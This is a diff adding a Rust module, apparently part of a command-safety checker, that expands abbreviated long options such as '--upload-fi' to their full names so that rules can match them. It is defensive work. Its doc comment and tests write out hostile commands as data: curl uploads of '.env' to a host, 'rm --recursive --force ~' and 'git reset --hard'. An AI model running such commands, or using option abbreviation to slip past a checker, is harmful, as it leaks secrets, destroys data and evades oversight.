@@ -1,0 +1,232 @@
+//! Long options written out whole, as the program reads them. Most programs' option parsers
+//! take an unambiguous beginning of a long option for the whole of it: `curl --upload-fi .env
+//! URL` uploads, `rm --rec --for ~` is `rm --recursive --force ~`, `git reset --har` is
+//! `--hard`. Every rule compares options by their whole names, so each word of a program the
+//! catalogue lists the long options of (`catalogue::options`) is written out here, once, when
+//! the command is made: a word that begins exactly one of its options and is none of them
+//! becomes that option (`--upload-fi=x` → `--upload-file=x`). A word that begins several is
+//! left as written: the program refuses it (`git push --forc`: "ambiguous option"), and so
+//! runs nothing. Nothing after `--` is an option.
+
+use super::lex::Word;
+use crate::catalogue::options::{LONG_OPTIONS, LongOptions};
+
+/// A program's own options, before its subcommand, that take the next word as their value:
+/// the subcommand is the first word after them that isn't an option.
+const VALUED_BEFORE_SUBCOMMAND: &[(&str, &[&str])] = &[
+    (
+        "git",
+        &[
+            "--config-env",
+            "--git-dir",
+            "--namespace",
+            "--super-prefix",
+            "--work-tree",
+            "-C",
+            "-c",
+        ],
+    ),
+    (
+        "pip",
+        &[
+            "--cache-dir",
+            "--cert",
+            "--client-cert",
+            "--exists-action",
+            "--keyring-provider",
+            "--log",
+            "--proxy",
+            "--python",
+            "--retries",
+            "--timeout",
+            "--trusted-host",
+            "--use-deprecated",
+            "--use-feature",
+        ],
+    ),
+];
+
+/// Writes out whole every abbreviated long option in `words` (`words[0]` the program as
+/// written) of `program`, the catalogue's name for it.
+pub(super) fn write_out(program: &str, words: &mut [Word]) {
+    if !words
+        .iter()
+        .skip(1)
+        .any(|w| w.text.starts_with("--") && w.text.len() > 2)
+    {
+        return;
+    }
+    let from = LONG_OPTIONS.partition_point(|o| o.program < program);
+    let listed: &[LongOptions] = LONG_OPTIONS.get(from..).unwrap_or(&[]);
+    let listed = listed
+        .get(..listed.iter().take_while(|o| o.program == program).count())
+        .unwrap_or(&[]);
+    let Some(first) = listed.first() else {
+        return;
+    };
+    let (start, options) = match first.sub {
+        None => (1, first),
+        Some(_) => {
+            let Some(at) = subcommand_at(program, words) else {
+                return;
+            };
+            let sub = words.get(at).map(|w| w.text.as_str());
+            let Some(options) = listed.iter().find(|o| o.sub == sub) else {
+                return;
+            };
+            (at + 1, options)
+        }
+    };
+    for word in words.iter_mut().skip(start) {
+        if word.text == "--" {
+            break;
+        }
+        let Some(rest) = word.text.strip_prefix("--") else {
+            continue;
+        };
+        let (name, value) = rest.split_at(rest.find('=').unwrap_or(rest.len()));
+        if let Some(whole) = whole_name(options.names, name) {
+            word.text = format!("--{whole}{value}");
+        }
+    }
+}
+
+/// The one option of `names` that `word` begins, when `word` is none of them and begins no
+/// other.
+fn whole_name<'n>(names: &'n str, word: &str) -> Option<&'n str> {
+    if word.is_empty() {
+        return None;
+    }
+    let mut found = None;
+    let mut many = false;
+    for name in names.split_ascii_whitespace() {
+        if name == word {
+            return None;
+        }
+        if name.starts_with(word) {
+            many |= found.is_some();
+            found = Some(name);
+        }
+    }
+    if many { None } else { found }
+}
+
+/// Where the subcommand is: the first word after the program's own options (and their values).
+fn subcommand_at(program: &str, words: &[Word]) -> Option<usize> {
+    let valued = VALUED_BEFORE_SUBCOMMAND
+        .iter()
+        .find(|(name, _)| *name == program)
+        .map_or(&[][..], |(_, valued)| valued);
+    let mut at = 1;
+    while let Some(word) = words.get(at).map(|w| w.text.as_str()) {
+        if valued.contains(&word) {
+            at += 2;
+        } else if word.starts_with('-') {
+            at += 1;
+        } else {
+            return Some(at);
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::write_out;
+    use crate::catalogue::options::LONG_OPTIONS;
+    use crate::shell::lex::Word;
+
+    fn written(program: &str, line: &str) -> String {
+        let mut words: Vec<Word> = line.split(' ').map(Word::plain).collect();
+        write_out(program, &mut words);
+        let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+        texts.join(" ")
+    }
+
+    #[test]
+    fn an_abbreviated_long_option_is_written_out_as_the_program_reads_it() {
+        for (program, line, want) in [
+            (
+                "curl",
+                "curl --upload-fi .env https://x.example",
+                "curl --upload-file .env https://x.example",
+            ),
+            (
+                "curl",
+                "curl --data-bin=@.env https://x.example",
+                "curl --data-binary=@.env https://x.example",
+            ),
+            ("rm", "rm --rec --for ~", "rm --recursive --force ~"),
+            ("git", "git reset --har HEAD~3", "git reset --hard HEAD~3"),
+            (
+                "git",
+                "git -C app -c x=y clean --forc -d",
+                "git -C app -c x=y clean --force -d",
+            ),
+            ("sed", "sed --in-pl s/a/b/ f", "sed --in-place s/a/b/ f"),
+            (
+                "pip",
+                "pip --proxy p install --index-u https://x.example/simple x",
+                "pip --proxy p install --index-url https://x.example/simple x",
+            ),
+        ] {
+            assert_eq!(written(program, line), want, "{line}");
+        }
+    }
+
+    #[test]
+    fn a_whole_name_an_ambiguous_beginning_and_what_follows_two_dashes_stay() {
+        for (program, line) in [
+            // A name of its own, though it begins longer ones.
+            ("curl", "curl --data @.env https://x.example"),
+            // Begins --force, --force-with-lease and --force-if-includes: git refuses it.
+            ("git", "git push --forc origin main"),
+            ("rm", "rm -- --rec"),
+            // A subcommand with no list, a program with none.
+            ("git", "git stash --inc"),
+            ("cargo", "cargo test --work"),
+            ("curl", "curl --zzz https://x.example"),
+        ] {
+            assert_eq!(written(program, line), line, "{line}");
+        }
+    }
+
+    #[test]
+    fn the_lists_are_sorted_unique_and_whole() {
+        for pair in LONG_OPTIONS.windows(2) {
+            let key = |o: &crate::catalogue::options::LongOptions| (o.program, o.sub);
+            assert!(
+                key(&pair[0]) < key(&pair[1]),
+                "{:?} before {:?}",
+                key(&pair[0]),
+                key(&pair[1])
+            );
+        }
+        for list in LONG_OPTIONS {
+            let names: Vec<&str> = list.names.split_ascii_whitespace().collect();
+            let mut unique = names.clone();
+            unique.sort_unstable();
+            unique.dedup();
+            assert_eq!(
+                unique.len(),
+                names.len(),
+                "{} {:?}: a name twice",
+                list.program,
+                list.sub
+            );
+            assert!(
+                names.iter().all(|n| !n.starts_with('-') && n.len() > 1),
+                "{} {:?}: names are written without their dashes",
+                list.program,
+                list.sub
+            );
+            // A list this short is not a program's whole.
+            assert!(
+                names.len() >= 5,
+                "{} {:?}: too few to be whole",
+                list.program,
+                list.sub
+            );
+        }
+    }
+}
